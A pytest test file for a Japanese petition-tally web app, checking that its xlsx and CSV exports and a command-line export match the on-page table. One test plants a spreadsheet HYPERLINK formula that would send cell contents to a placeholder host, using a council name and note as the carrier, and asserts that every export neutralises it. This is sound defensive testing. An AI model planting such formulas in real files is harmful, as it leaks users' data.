"""The 集約一覧表 as xlsx, CSV and from the command: the same headers and numbers as the page."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from councils.models import Role
from petitions.selectors import tally_table
from tests.councils.factories import local_council, national_council, prefectural_council, staff_of

from .factories import PetitionDriveFactory, goal, record, with_rounds

D = datetime.date
pytestmark = pytest.mark.django_db
AS_OF = "2024-03-01"


@pytest.fixture
def setup():
    user = staff_of(national_council(), role=Role.NATIONAL_STAFF)
    petition = PetitionDriveFactory(slug="kaigo", title="介護改善署名")
    with_rounds(petition, D(2023, 12, 1), D(2024, 2, 29))
    kanagawa = prefectural_council("14")
    kawasaki = local_council("14", name="川崎社保協")
    goal(petition, national_council(), 65_000)
    goal(petition, kanagawa, 5_000)
    record(user, petition, kanagawa, 1_241, collected_on=D(2023, 11, 30))
    record(user, petition, kawasaki, 42, collected_on=D(2024, 1, 20))
    record(user, petition, prefectural_council("13"), 3_000, collected_on=D(2024, 2, 1))
    record(user, petition, prefectural_council("47"), 12, collected_on=D(2024, 2, 2))
    return user, petition


def _html_rows(client, url):
    """The table on the page as lists of cell texts (without the bar column)."""
    import re

    html = client.get(url).content.decode()
    body = html.split('id="tally-table"')[1].split("</table>")[0]
    header = [re.sub(r"<[^>]+>", "", h).strip() for h in re.findall(r"<th[^>]*>(.*?)</th>", body, re.S)][:-1]
    rows = []
    for tr in re.findall(r"<tr class=\"level-.*?</tr>", body, re.S):
        cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", tr, re.S)][:-1]
        rows.append(cells)
    return header, rows


def _as_text(value):
    if value is None or value == "":
        return ""
    if isinstance(value, float):
        return f"{value:.1f}"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)


def test_xlsx_parsed_back_equals_the_html_table(client, setup):
    user, _petition = setup
    client.force_login(user)
    url = reverse("petitions:national", args=["kaigo"])
    header, rows = _html_rows(client, f"{url}?date={AS_OF}")
    response = client.get(url, {"date": AS_OF, "format": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == header
    assert [[_as_text(v) for v in row] for row in values[1:]] == rows
    total = values[-1]
    assert total[:2] == ("全国", "合計") and total[4] == 1_241 + 42 + 3_000 + 12 and total[2] == 65_000


def test_csv_is_utf8_with_bom_and_cp932_on_request(client, setup):
    user, _petition = setup
    client.force_login(user)
    url = reverse("petitions:national", args=["kaigo"])
    utf8 = client.get(url, {"date": AS_OF, "format": "csv"}).content
    assert utf8.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(utf8.decode("utf-8-sig"))))
    cp932 = client.get(url, {"date": AS_OF, "format": "csv", "encoding": "cp932"})
    assert "shift_jis" in cp932["Content-Type"]
    assert list(csv.reader(io.StringIO(cp932.content.decode("cp932")))) == rows
    assert rows[0][:5] == ["ブロック", "都道府県", "目標（筆）", "今次集約（筆）", "累計（筆）"]
    kanagawa = next(r for r in rows if r[1] == "神奈川県")
    assert kanagawa[2:7] == ["5000", "42", "1283", "25.7", "0"]


def test_command_output_equals_the_page(client, setup, tmp_path):
    user, _petition = setup
    client.force_login(user)
    url = reverse("petitions:national", args=["kaigo"])
    page = client.get(url, {"date": AS_OF, "format": "csv"}).content.decode("utf-8-sig")
    out = io.StringIO()
    call_command("tally_table", petition="kaigo", date=AS_OF, format="csv", stdout=out)
    assert out.getvalue() == page
    target = tmp_path / "kaigo.xlsx"
    call_command("tally_table", petition="kaigo", date=AS_OF, format="xlsx", out=str(target), stderr=io.StringIO())
    from_command = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    from_page = client.get(url, {"date": AS_OF, "format": "xlsx"}).content
    assert from_command == list(openpyxl.load_workbook(io.BytesIO(from_page)).active.iter_rows(values_only=True))


def test_command_for_one_prefecture(setup):
    out = io.StringIO()
    call_command("tally_table", petition="kaigo", date=AS_OF, prefecture="14", format="csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][:2] == ["都道府県", "社保協"]
    assert [r[1] for r in rows[1:]] == ["神奈川県社会保障推進協議会", "川崎社保協", "合計"]
    assert rows[-1][4] == "1283"


def test_command_writes_csv_bytes_to_stdout(setup, capfdbinary):
    call_command("tally_table", petition="kaigo", date=AS_OF, format="csv", encoding="cp932")
    data = capfdbinary.readouterr().out
    assert data.decode("cp932").startswith("ブロック,都道府県")


def test_table_title_and_headers_are_shared(setup):
    _, petition = setup
    table = tally_table(petition=petition, as_of=D(2024, 3, 1))
    assert table.title.endswith("2024年3月1日現在")
    assert table.headers[-1] == "団体署名"


# --- exports run nothing (issue 7) -----------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'


def assert_no_live_formula_in_xlsx(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                    seen.append(cell.value)
    return seen


def assert_no_live_formula_in_csv(text):
    seen = []
    for row in csv.reader(io.StringIO(text)):
        for value in row:
            if value.startswith("-"):
                float(value)  # a negative number is a number; anything else starting with "-" would run
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            seen.append(value)
    return seen


def test_a_formula_in_a_council_name_and_a_note_runs_in_no_export(client, setup, tmp_path, settings):
    """Every CSV and xlsx the system writes: tally tables (page, command), import templates, import outcomes."""
    from petitions.models import TallyEntry

    user, petition = setup
    evil = local_council("14", name=FORMULA, short_name="")
    record(user, petition, evil, 7, collected_on=D(2024, 1, 21))
    TallyEntry.objects.filter(council=evil).update(note=FORMULA)
    client.force_login(user)
    national = reverse("petitions:national", args=["kaigo"])
    prefecture = reverse("petitions:prefecture", args=["kaigo", "14"])
    files = {
        "national xlsx": client.get(national, {"date": AS_OF, "format": "xlsx"}).content,
        "prefecture xlsx": client.get(prefecture, {"date": AS_OF, "format": "xlsx"}).content,
        "import template xlsx": client.get(reverse("admin:petitions_tallyentry_import_template"), {"format": "xlsx"}),
    }
    files["import template xlsx"] = files["import template xlsx"].content
    target = tmp_path / "out.xlsx"
    call_command(
        "tally_table",
        petition="kaigo",
        date=AS_OF,
        prefecture="14",
        format="xlsx",
        out=str(target),
        stderr=io.StringIO(),
    )
    files["command xlsx"] = target.read_bytes()
    texts = {
        "prefecture csv": client.get(prefecture, {"date": AS_OF, "format": "csv"}).content.decode("utf-8-sig"),
        "prefecture csv cp932": client.get(
            prefecture, {"date": AS_OF, "format": "csv", "encoding": "cp932"}
        ).content.decode("cp932"),
    }
    out = io.StringIO()
    call_command("tally_table", petition="kaigo", date=AS_OF, prefecture="14", format="csv", stdout=out)
    texts["command csv"] = out.getvalue()

    # The import outcome, for a file naming the council and carrying the note.
    upload = io.StringIO(newline="")
    csv.writer(upload, lineterminator="\r\n").writerows(
        [
            ["社保協", "筆数", "日付", "備考"],
            [str(evil.pk), "3", "2024-01-22", FORMULA],
            ["どこ", "x", "2024-01-22", "+1"],
        ]
    )
    from django.core.files.uploadedfile import SimpleUploadedFile

    body = client.post(
        reverse("admin:petitions_tallyentry_import"),
        {
            "petition": petition.pk,
            "encoding": "",
            "file": SimpleUploadedFile("a.csv", upload.getvalue().encode()),
            "_preview": "1",
        },
    ).content.decode()
    import re

    token = re.search(r"import/outcome/\?token=([0-9A-Za-z_-]+)", body).group(1)
    outcome_url = reverse("admin:petitions_tallyentry_import_outcome")
    texts["import outcome csv"] = client.get(outcome_url, {"token": token}).content.decode("utf-8-sig")
    files["import outcome xlsx"] = client.get(outcome_url, {"token": token, "format": "xlsx"}).content
    # The ledger's export in the import's layout (the one flow's round trip).
    export_url = reverse("admin:petitions_tallyentry_export")
    files["ledger export xlsx"] = client.get(export_url, {"petition": petition.pk}).content
    texts["ledger export csv"] = client.get(export_url, {"petition": petition.pk, "format": "csv"}).content.decode(
        "utf-8-sig"
    )
    texts["import template csv"] = client.get(
        reverse("admin:petitions_tallyentry_import_template"), {"format": "csv"}
    ).content.decode("utf-8-sig")

    for name, content in files.items():
        seen = assert_no_live_formula_in_xlsx(content)
        if name != "national xlsx" and name != "import template xlsx":
            assert "'" + FORMULA in seen, name  # the text is there, as text
    for name, text in texts.items():
        seen = assert_no_live_formula_in_csv(text)
        if name != "import template csv":
            assert "'" + FORMULA in seen, name
    # The council's name is in the template's council list, as text.
    assert "'" + FORMULA in assert_no_live_formula_in_xlsx(files["import template xlsx"])
    # Numbers stay numbers.
    sheet = openpyxl.load_workbook(io.BytesIO(files["prefecture xlsx"])).active
    evil_row = next(r for r in sheet.iter_rows(values_only=True) if r[1] == "'" + FORMULA)
    assert evil_row[4] == 7


def test_table_downloads_have_a_japanese_name_beside_an_ascii_fallback(client, setup):
    user, _petition = setup
    client.force_login(user)
    url = reverse("petitions:prefecture", args=["kaigo", "14"])
    header = client.get(url, {"date": AS_OF, "format": "xlsx"})["Content-Disposition"]
    assert 'filename="tally_kaigo_14_2024-03-01.xlsx"' in header
    assert "filename*=utf-8''%E9%9B%86%E7%B4%84%E4%B8%80%E8%A6%A7%E8%A1%A8_" in header  # 集約一覧表_…
